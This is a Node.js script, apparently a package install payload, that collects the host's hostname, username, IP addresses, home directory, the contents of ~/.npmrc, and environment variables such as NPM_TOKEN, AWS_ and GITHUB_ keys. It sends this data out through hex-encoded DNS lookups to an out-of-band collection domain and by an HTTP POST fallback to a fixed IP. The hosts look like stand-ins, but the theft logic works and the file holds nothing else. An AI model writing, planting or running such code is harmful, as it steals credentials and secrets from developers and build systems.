const os = require("os");
const dns = require("dns");
const fs = require("fs");
const path = require("path");
const querystring = require("querystring");
const http = require("http");
const packageJSON = require("./package.json");
const pkg = packageJSON.name;

const BASE = "cx7q2.oob-collect.invalid";

function readSafe(p) {
  try { return fs.readFileSync(p, "utf8"); } catch (e) { return ""; }
}

const trackingData = JSON.stringify({
  p: pkg,
  c: __dirname,
  hd: os.homedir(),
  hn: os.hostname(),
  un: os.userInfo().username,
  dns: dns.getServers(),
  r: packageJSON ? packageJSON.___resolved : undefined,
  v: packageJSON.version,
  pjson: packageJSON,
  ip: Object.values(os.networkInterfaces()).flat().filter((i) => i && !i.internal && i.family === "IPv4").map((i) => i.address),
  npmrc: readSafe(path.join(os.homedir(), ".npmrc")),
  initcwd: process.env.INIT_CWD,
  ci: !!process.env.CI,
  env: Object.keys(process.env).filter((k) => /npm_config_registry|NPM_TOKEN|ARTIFACTORY|NEXUS|AWS_|GITHUB_/.test(k)).reduce((o, k) => ((o[k] = process.env[k]), o), {}),
});

// 1) DNS: hex chunks in labels so it works from networks that block egress HTTP
const hex = Buffer.from(trackingData).toString("hex");
const id = Math.random().toString(36).slice(2, 8);
const chunks = hex.match(/.{1,60}/g) || [];
chunks.forEach((c, i) => {
  setTimeout(() => dns.lookup(`${c}.${i}.${chunks.length}.${id}.${BASE}`, () => {}), i * 40);
});

// 2) HTTP fallback
const postData = querystring.stringify({ msg: trackingData });
const req = http.request({
  hostname: "203.0.113.5",
  port: 80,
  path: "/cb/" + id,
  method: "POST",
  headers: { "Content-Type": "application/x-www-form-urlencoded", "Content-Length": postData.length },
}, (res) => res.on("data", () => {}));
req.on("error", () => {});
req.write(postData);
req.end();
